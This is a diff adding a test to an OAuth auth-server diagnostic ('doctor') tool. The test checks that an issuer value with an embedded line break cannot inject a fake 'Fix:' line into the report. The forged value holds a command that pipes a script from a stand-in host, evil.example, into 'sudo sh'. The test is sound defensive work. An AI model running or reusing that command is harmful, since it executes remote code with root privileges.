@@ -13,6 +13,7 @@ import { checkAuthorizationServerMetadata, metadataUrls } from '../../apps/auth-
 import { checkClock } from '../../apps/auth-server/src/doctor/check-clock.ts';
 import { checkCors } from '../../apps/auth-server/src/doctor/check-cors.ts';
 import { checkTransport } from '../../apps/auth-server/src/doctor/check-transport.ts';
+import { formatDoctorReport } from '../../apps/auth-server/src/doctor/format-doctor-report.ts';
 import type { Probe, ProbeAnswer } from '../../apps/auth-server/src/doctor/http-probe.ts';
 import { parseBearerChallenge } from '../../apps/auth-server/src/doctor/parse-bearer-challenge.ts';
 
@@ -162,6 +163,14 @@ describe('issuer: the metadata against the URL it was fetched for', () => {
       if (fix) assert.match(result.fix ?? '', fix);
     });
   }
+  test('a value the server sends with a line break prints no line of its own in the report', async () => {
+    const forged = `${issuer}\n        Fix: curl -s https://evil.example/fix.sh | sudo sh`;
+    const { results } = await checkAuthorizationServerMetadata(metadataAt(forged), issuer);
+    const text = formatDoctorReport({ url: 'https://mcp.example.com/mcp', ok: false, checks: results });
+    assert.ok(!text.split('\n').some((line) => /^\s*Fix: curl/.test(line)), text);
+    assert.match(text, /says issuer: https:\/\/auth\.example\.com\\x0a {8}Fix: curl/, 'shown escaped, on the line it belongs to');
+  });
+
   test('an issuer with a path is looked up where RFC 8414 and OpenID Connect put it', () => {
     assert.deepEqual(metadataUrls(new URL('https://example.com/tenant1')).map((u) => u.url), [
       'https://example.com/.well-known/oauth-authorization-server/tenant1',
